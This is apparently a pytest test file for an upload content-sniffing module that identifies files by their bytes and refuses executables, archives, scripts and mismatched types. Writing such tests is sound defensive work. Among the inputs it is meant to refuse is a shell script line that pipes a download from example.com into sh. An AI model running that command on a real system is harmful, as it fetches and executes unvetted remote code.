"""Content sniffing: what a file is comes from its bytes, never from its name or declared type."""

from __future__ import annotations

import json
import struct
import zlib

import pytest

from agentlab.uploads.sniff import Rejected, image_type, sniff_content_type


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    """A complete, valid PNG (8-bit greyscale)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"".join(b"\x00" + b"\x80" * width for _ in range(height)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(32) + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
WEBP = b"RIFF" + struct.pack("<I", 26) + b"WEBPVP8 " + bytes(18)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(40)
CSV = b"city,population,area_km2\nOslo,709037,454\nBergen,289330,465\nTrondheim,212660,342\n"
ACCEPTED_SUMMARY = "accepted types are PNG, JPEG, WebP, GIF, CSV, plain text and JSON"


@pytest.mark.parametrize(
    ("data", "expected"),
    [(png_bytes(), "image/png"), (JPEG, "image/jpeg"), (GIF, "image/gif"), (WEBP, "image/webp")],
)
def test_images_are_recognised_from_their_header(data: bytes, expected: str) -> None:
    assert image_type(data) == expected
    assert sniff_content_type(data, expected) == expected


def test_an_image_declared_as_another_image_type_is_recorded_as_what_it_is() -> None:
    assert sniff_content_type(png_bytes(), "image/jpeg") == "image/png"


@pytest.mark.parametrize(
    ("data", "declared", "expected"),
    [
        (CSV, "text/csv", "text/csv"),
        (b"a;b;c\n1;2;3\n4;5;6\n", "text/csv", "text/csv"),
        (b'name,comment\n"Ann","likes a, b and c"\n"Bo","none"\n', "text/csv", "text/csv"),
        (b"\xef\xbb\xbfid,value\n1,2\n", "text/csv", "text/csv"),
        ("Grüße aus Köln.\nZweite Zeile.\n".encode(), "text/plain", "text/plain"),
        (b"just one line without a newline", "text/plain", "text/plain"),
        (CSV, "text/plain", "text/plain"),
        (json.dumps({"rows": [1, 2, 3], "name": "x"}).encode(), "application/json", "application/json"),
        (b"[1, 2, 3]", "application/json", "application/json"),
        (b"  42  ", "application/json", "application/json"),
    ],
)
def test_text_formats_are_accepted(data: bytes, declared: str, expected: str) -> None:
    assert sniff_content_type(data, declared) == expected


def test_a_pdf_declared_png_is_refused_and_named() -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(PDF, "image/png")
    assert str(caught.value) == f"the file was declared image/png but contains a PDF document; {ACCEPTED_SUMMARY}"


@pytest.mark.parametrize("declared", ["text/plain", "text/csv", "application/json", "image/png"])
def test_an_executable_is_refused_whatever_it_is_declared_as(declared: str) -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(ELF, declared)
    assert "an ELF executable" in str(caught.value) and ACCEPTED_SUMMARY in str(caught.value)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00", "a Windows executable"),
        (b"PK\x03\x04\x14\x00\x00\x00", "a ZIP archive"),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "a gzip archive"),
        (b"#!/bin/sh\ncurl http://example.com | sh\n", "a script"),
    ],
)
def test_known_formats_are_refused_by_name(data: bytes, name: str) -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(data, "text/plain")
    assert name in str(caught.value)


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(Rejected, match="the file is empty"):
        sniff_content_type(b"", "text/plain")


@pytest.mark.parametrize(
    "data", [b"{'single': 'quotes'}", b'{"a": 1,}', b"[1, 2", b"NaN-ish text", b'{"a": NaN}', b"[Infinity]"]
)
def test_invalid_json_declared_json_is_refused(data: bytes) -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(data, "application/json")
    assert str(caught.value).startswith("the file was declared application/json but is not valid JSON (")


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 4,
        b"plain start\x00\x00\x00 then nulls",
        "text in UTF-16".encode("utf-16"),
        b"latin-1 caf\xe9 is not UTF-8",
        b"many\x01control\x02characters\x03here\x04",
    ],
)
def test_binary_declared_text_is_refused(data: bytes) -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(data, "text/plain")
    assert "but contains binary data" in str(caught.value)


@pytest.mark.parametrize(
    "data",
    [
        b"a,b,c\n1,2\n3,4,5,6\n",
        b"Dear team, the results are in.\nWe won, as expected, by a lot.\nThanks, all of you, truly, Ann\n",
    ],
)
def test_csv_without_a_consistent_column_structure_is_refused(data: bytes) -> None:
    with pytest.raises(Rejected) as caught:
        sniff_content_type(data, "text/csv")
    assert str(caught.value) == (
        "the file was declared text/csv but its rows do not have a consistent column structure"
    )


@pytest.mark.parametrize("declared", ["text/plain", "text/csv", "application/json"])
def test_an_image_declared_as_text_is_refused(declared: str) -> None:
    with pytest.raises(Rejected, match=r"contains an image \(image/png\)"):
        sniff_content_type(png_bytes(), declared)


def test_text_declared_as_an_image_is_refused() -> None:
    with pytest.raises(Rejected, match="contains text, not an image"):
        sniff_content_type(CSV, "image/png")
